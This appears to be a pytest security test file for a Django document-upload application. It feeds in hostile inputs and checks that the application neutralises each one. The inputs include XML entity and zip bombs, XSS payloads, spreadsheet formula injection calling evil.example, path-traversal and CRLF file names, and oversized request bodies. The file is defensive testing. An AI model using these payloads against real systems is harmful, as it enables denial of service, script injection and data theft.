"""Files that are meant to do harm: bombs, scripts, formulas, names with tricks, and more than may be sent. One clear line, and nothing is lost."""

from __future__ import annotations

import io
import re
import socket
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from django.utils.html import escape
from lxml import html
from openpyxl import Workbook, load_workbook
from waitress.buffers import TempfileBasedBuffer

from desk.handed_out import in_hand
from desk.qinghe import Enter, unit
from desk.test_documents import bring_in
from documents.word_file import paragraph, word_file
from luoshi.desk.documents import originals, sheet_limit
from luoshi.desk.documents.models import Document, StoredReading
from luoshi.desk.documents.upload_limit import most_bytes
from luoshi.desk.plans.checking import first_difference
from luoshi.desk.receiving import Kept, _Parser
from luoshi.desk.serving import listening
from luoshi.reading.formats.limits import PACKAGE_PARTS

pytestmark = pytest.mark.usefixtures("district")
BODY = paragraph("全面启动青禾大道建设。")


def entity_bomb() -> bytes:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    return word_file(paragraph("&e11;"), prolog=f'<!DOCTYPE w:document [<!ENTITY e0 "涨涨涨">{entities}]>')


def with_entries(data: bytes, entries: Iterator[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return out.getvalue()


def nested_bomb() -> bytes:
    inner = with_entries(b"", iter([("zeros", b"\0" * 30_000_000)]))
    return with_entries(word_file(BODY), ((f"word/{n}.zip", b"\0" * 2_000_000 + inner) for n in range(3)))


BOMBS: dict[str, Callable[[], bytes]] = {
    "entities": entity_bomb,
    "packed beyond reason": lambda: with_entries(word_file(BODY), iter([("word/a.bin", b"\0" * 20_000_000)])),
    "archives within": nested_bomb,
    "entries without end": lambda: with_entries(
        word_file(BODY), ((f"word/{n}", b"") for n in range(PACKAGE_PARTS + 1))
    ),
    "nested without end": lambda: word_file("<w:sdt><w:sdtContent>" * 400 + BODY + "</w:sdtContent></w:sdt>" * 400),
}


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_in_a_document_is_told_and_the_worker_goes_on(enter: Enter, bomb: str) -> None:
    client = enter("desk")
    answer = bring_in(client, BOMBS[bomb](), "报告.docx")
    bring_in(client, word_file(BODY), "后面一份.docx")
    call_command("db_worker", batch=True, interval=0, startup_delay=False, verbosity=0)
    if answer.status_code == 302:
        stored = StoredReading.objects.get(version__name="报告.docx")
        assert stored.state == "failed"
        said = client.get(f"/documents/readings/{stored.pk}/").content.decode()
        assert "The original is kept." in said
        assert originals.path_of(stored.version.sha256).exists()
    else:
        assert answer.status_code == 422
        said = answer.content.decode()
    assert re.search(r"报告\.docx is (too large|damaged)", said)
    assert "bug" not in said
    assert StoredReading.objects.get(version__name="后面一份.docx").state == "done"


HARM = """<html><head><title>工作报告<script>alert(1)</script></title><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><style>body{background:url(https://evil.example/)}</style></head>
<body onload="alert(1)"><h1 onclick="alert(1)">青禾区2026年工作要点</h1><p style="position:fixed">要切实抓好秋粮收购<img src=x onerror=alert(1)>。</p>
<p>各街道要<a href="javascript:alert(1)">改造老旧小区</a>20个。</p><iframe srcdoc="<script>alert(1)</script>"></iframe><svg onload=alert(1)><script>alert(1)</script></svg>
<form action="https://evil.example/"><input name=password></form><p>增长&lt;script&gt;alert(2)&lt;/script&gt;%左右。</p></body></html>"""
HARMFUL = ("iframe", "object", "embed", "base", "style", "svg", "img")


def assert_harmless(page: str) -> None:
    """Nothing in a page of ours came from the document but its words."""
    tree = html.fromstring(page)
    scripts = list(tree.iter("script"))
    assert all((one.get("src") or "").startswith("/static/") and not one.text for one in scripts)
    main = tree.find(".//main")
    assert main is not None
    assert [one.tag for one in main.iter() if one.tag in HARMFUL] == []
    for one in tree.iter():
        for name, said in one.attrib.items():
            assert not name.startswith("on"), name
            assert name != "style"
            assert "javascript:" not in said
            assert "evil.example" not in said


def test_scripts_in_a_page_reach_no_page_of_ours(enter: Enter) -> None:
    client = enter("desk")
    bring_in(client, HARM.encode(), "要点.html")
    stored = StoredReading.objects.get()
    assert stored.state == "done"
    made = client.post(f"/plans/from/{stored.pk}/")["Location"]
    key = Document.objects.get().versions.get().plans.get().items.all()[0].key
    for path in (
        f"/documents/readings/{stored.pk}/",
        "/documents/",
        made,
        f"{made}review/",
        f"/items/{key}/",
        "/plans/",
    ):
        page = client.get(path)
        assert page.status_code == 200, path
        assert_harmless(page.content.decode())


@pytest.mark.parametrize(
    "words", ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{ 7|add:7 }}", "javascript:alert(1)"]
)
def test_words_that_people_type_are_words(enter: Enter, words: str) -> None:
    item = in_hand(wording=words)
    enter("desk").post(f"/act/{item.key}/remark/", {"seen": item.last_entry, "text": words})
    client = enter("housing")
    for path in ("/inbox/", f"/items/{item.key}/", f"/reports/{unit('区住建局').pk}/", f"/plans/{item.plan.pk}/"):
        page = client.get(path).content.decode()
        assert "<script>alert" not in page
        assert "<img src=x" not in page
        assert 'href="javascript' not in page
    # They are shown as they were typed, the remark and the row.
    assert client.get(f"/items/{item.key}/").content.decode().count(escape(words)) >= 2


FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example")', "+1|cmd", "@SUM(A1)", "-2+3", "\t=1"]


@pytest.mark.parametrize("words", FORMULAS)
def test_no_words_become_a_formula_in_a_workbook_of_ours(enter: Enter, words: str) -> None:
    item = in_hand(wording=words.strip() or words)
    sheets = [
        enter("desk").get(f"/plans/{item.plan.pk}/file/xlsx/"),
        enter("housing").get(f"/reports/{unit('区住建局').pk}/sheet.xlsx"),
    ]
    for answer in sheets:
        book = load_workbook(io.BytesIO(answer.content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert [cell.value for cell in cells if cell.data_type == "f"] == []
        assert any(cell.value == words.strip() for cell in cells)


def test_a_formula_that_comes_in_is_not_worked_out_and_is_told(enter: Enter) -> None:
    book, out = Workbook(), io.BytesIO()
    sheet = book.worksheets[0]
    for row in (
        ["序号", "重点任务", "牵头单位"],
        [1, "新建北渡桥", "区交通局"],
        [2, '=WEBSERVICE("http://evil.example")', "区交通局"],
    ):
        sheet.append(row)
    book.save(out)
    answer = enter("desk").post("/plans/table/", {"file": SimpleUploadedFile("表.xlsx", out.getvalue())})
    assert answer.status_code == 200
    assert "新建北渡桥" in answer.content.decode()
    assert first_difference() is None


NAMES = {
    "../../../etc/passwd": "passwd", "/etc/cron.d/x.pdf": "x.pdf", "C:\\Windows\\win.ini": "win.ini", "a\0b.pdf": "ab.pdf",
    "报告\u202efdp.exe": "报告fdp.exe", "\u2066a\u2069.pdf": "a.pdf", "CON": "_CON", "con.pdf": "_con.pdf", "LPT1.docx": "_LPT1.docx", "nul .txt": "_nul .txt",
    "Conte.pdf": "Conte.pdf", ".htaccess": "htaccess", "a.pdf. . ": "a.pdf", "…": "…", "\r\nX: y.pdf": "X y.pdf", "x" * 300 + ".pdf": "x" * 116 + ".pdf",
    '"; filename="evil.exe': "; filename=evil.exe", "COM¹.txt": "COM¹.txt",
}  # fmt: skip


@pytest.mark.parametrize("given", NAMES, ids=ascii)
def test_a_name_is_a_name_and_nothing_else(given: str) -> None:
    assert originals.plain_name(given) == NAMES[given]


@pytest.mark.parametrize("given", [name for name in NAMES if "\0" not in name], ids=ascii)
def test_a_name_brings_no_header_along_when_the_paper_is_fetched(enter: Enter, given: str) -> None:
    item = in_hand()
    form = {"seen": item.last_entry, "file": SimpleUploadedFile("x.pdf", b"x")}
    form["file"].name = given  # type: ignore[attr-defined]
    enter("housing").post(f"/act/{item.key}/add_evidence/", form)
    item.refresh_from_db()
    paper = item.item_state().evidence[0]
    answer = enter("housing").get(f"/evidence/{item.key}/{paper.id}/")
    assert b"".join(answer.streaming_content) == b"x"  # type: ignore[attr-defined]
    said = answer["Content-Disposition"]
    assert said.startswith("attachment; filename")
    assert said.isprintable()
    assert not re.search(r"[/\\](?!\")", said.replace('\\"', ""))
    assert not answer.has_header("X")
    assert {path.name for path in Path(settings.ORIGINALS).rglob("*") if path.is_file()} == {paper.id}


# -- more than may be sent ---------------------------------------------------------------------------------------------


class _Settings:
    """What waitress tells a parser."""

    max_request_header_size, max_request_body_size, inbuf_overflow, url_scheme = 1 << 18, 1 << 30, 1 << 19, "http"


def received(header: bytes, parts: Iterator[bytes]) -> Any:  # noqa: ANN401 - waitress says nothing of its types
    parser = _Parser(_Settings)
    parser.received(b"POST /documents/new/ HTTP/1.1\r\nHost: localhost\r\n" + header + b"\r\n\r\n")
    for part in parts:
        parser.received(part)
    return parser


@pytest.fixture
def no_disk(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing may be put into a file."""

    def refused(_self: object) -> None:
        pytest.fail("it was put on disk")

    monkeypatch.setattr(TempfileBasedBuffer, "newfile", refused)


@pytest.mark.usefixtures("no_disk")
def test_a_body_that_says_it_is_too_large_is_let_pass_by() -> None:
    size, part = 200 << 20, b"x" * (1 << 20)
    parser = received(f"Content-Length: {size}".encode(), (part for _n in range(200)))
    assert parser.completed
    assert parser.error is None
    assert parser.get_body_stream().read() == b""
    assert len(parser.body_rcv) == size


def test_a_body_that_says_nothing_of_its_size_is_dropped_once_it_is_too_large(settings: Any) -> None:  # noqa: ANN401 - pytest-django says nothing of its type
    settings.UPLOAD_BYTES = 1 << 20
    part = b"x" * (1 << 16)
    chunk = f"{len(part):x}\r\n".encode() + part + b"\r\n"
    parser = received(b"Transfer-Encoding: chunked", iter([*[chunk] * 64, b"0\r\n\r\n"]))
    assert parser.completed
    assert parser.headers["CONTENT_LENGTH"] == str(4 << 20)
    assert parser.get_body_stream().read() == b""
    small = received(b"Transfer-Encoding: chunked", iter([chunk, b"0\r\n\r\n"]))
    assert small.get_body_stream().read() == part


PART = b"x" * (1 << 16)
CHUNK = f"{len(PART):x}\r\n".encode() + PART + b"\r\n"


def cookie_of(client: Client) -> bytes:
    """The header with which this browser is known again."""
    return f"Cookie: other=1; {settings.SESSION_COOKIE_NAME}={client.cookies[settings.SESSION_COOKIE_NAME].value}\r\n".encode()


def body_of(parser: Any) -> bytes:  # noqa: ANN401 - as above
    """What was held of a request; nobody reads it any more."""
    held: bytes = parser.get_body_stream().read()
    parser.close()
    return held


def sent(size: int, *, chunked: bool) -> tuple[bytes, list[bytes]]:
    """The header that tells of a body, and its parts."""
    if chunked:
        return b"Transfer-Encoding: chunked", [*[CHUNK] * (size // len(PART)), b"0\r\n\r\n"]
    return f"Content-Length: {size}".encode(), [PART] * (size // len(PART))


STRANGERS = [b"", b"Cookie: sessionid=" + b"a" * 32 + b"\r\n", b"Cookie: sessionid=../'%00; x\r\n", b"Cookie: ;=;\r\n"]


@pytest.mark.parametrize("cookie", STRANGERS, ids=ascii)
@pytest.mark.parametrize("chunked", [False, True])
def test_of_those_who_have_not_signed_in_no_more_than_a_form_is_held(cookie: bytes, *, chunked: bool) -> None:
    header, parts = sent(2 << 20, chunked=chunked)
    parser = received(cookie + header, iter(parts))
    assert parser.completed
    assert parser.error is None
    assert len(parser.body_rcv) == 2 << 20
    assert body_of(parser) == b""
    header, parts = sent(1 << 20, chunked=chunked)
    assert body_of(received(cookie + header, iter(parts))) == 16 * PART


@pytest.mark.parametrize("chunked", [False, True])
def test_whoever_is_signed_in_may_send_what_may_be_uploaded(enter: Enter, *, chunked: bool) -> None:
    client = enter("desk")
    cookie = cookie_of(client)
    header, parts = sent(2 << 20, chunked=chunked)
    assert body_of(received(cookie + header, iter(parts))) == 32 * PART
    # A session that is over is nobody's any more.
    client.post("/sign-out/")
    assert body_of(received(cookie + header, iter(parts))) == b""


def test_a_stranger_is_told_to_sign_in_before_anything_is_read(client: Client) -> None:
    class Untouched:
        def read(self, *_size: int) -> bytes:
            pytest.fail("it was read")

        readline = read

    more = {"CONTENT_LENGTH": str(2 << 20), "wsgi.input": Untouched(), "HTTP_ACCEPT_LANGUAGE": "en"}
    for where in ("/sign-in/", "/documents/new/", "/plans/table/", "/nowhere/"):
        answer = client.generic("POST", where, b"", "multipart/form-data; boundary=x", **more)  # type: ignore[arg-type]
        assert answer.status_code == 413
        assert "Up to 1 MB can be sent without signing in" in answer.content.decode()


def test_what_fits_is_held_to_its_last_byte() -> None:
    kept = Kept(5, 1 << 19)
    for part in (b"ab", b"cde"):
        kept.append(part)
    assert (len(kept), kept.getfile().read()) == (5, b"abcde")
    kept.append(b"f")
    assert (len(kept), kept.getfile().read()) == (6, b"")


@pytest.mark.usefixtures("no_disk")
@pytest.mark.parametrize(("megabytes", "said"), [(200, "64 MB"), (2, "未登录的，一次最多发送1 MB")])
def test_too_many_megabytes_get_a_page_that_names_the_limit(megabytes: int, said: str) -> None:
    server = listening("127.0.0.1", 0)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        with socket.create_connection(("127.0.0.1", server.effective_port), timeout=120) as line:
            line.sendall(
                f"POST /documents/new/ HTTP/1.1\r\nHost: localhost\r\nContent-Length: {megabytes << 20}\r\nConnection: close\r\n\r\n".encode()
            )
            part = b"x" * (1 << 20)
            for _n in range(megabytes):
                line.sendall(part)
            answer = b"".join(iter(lambda: line.recv(1 << 16), b"")).decode()
    finally:
        server.close()
        thread.join(60)
    assert answer.startswith("HTTP/1.1 413 ")
    assert said in answer
    assert most_bytes() < 200 << 20


@pytest.mark.parametrize(
    ("login", "where", "field"),
    [
        ("desk", "/plans/{plan}/sheet/", "file"),
        ("desk", "/plans/table/", "file"),
        ("housing", "/reports/{unit}/sheet/", "sheet"),
    ],
)
def test_a_sheet_that_is_too_large_is_told_and_not_opened(
    enter: Enter, monkeypatch: pytest.MonkeyPatch, login: str, where: str, field: str
) -> None:
    item = in_hand()
    monkeypatch.setattr(sheet_limit, "SHEET_BYTES", 3 << 20)
    path = where.format(plan=item.plan.pk, unit=unit("区住建局").pk)
    for size, told in ((3 << 20, False), ((3 << 20) + 1, True)):
        answer = enter(login).post(path, {field: SimpleUploadedFile("表.xlsx", b"x" * size)}, follow=True)
        assert ("The file is larger than 3 MB." in answer.content.decode()) is told
    assert [path for path in Path(settings.ORIGINALS).rglob("*") if path.is_file()] == []
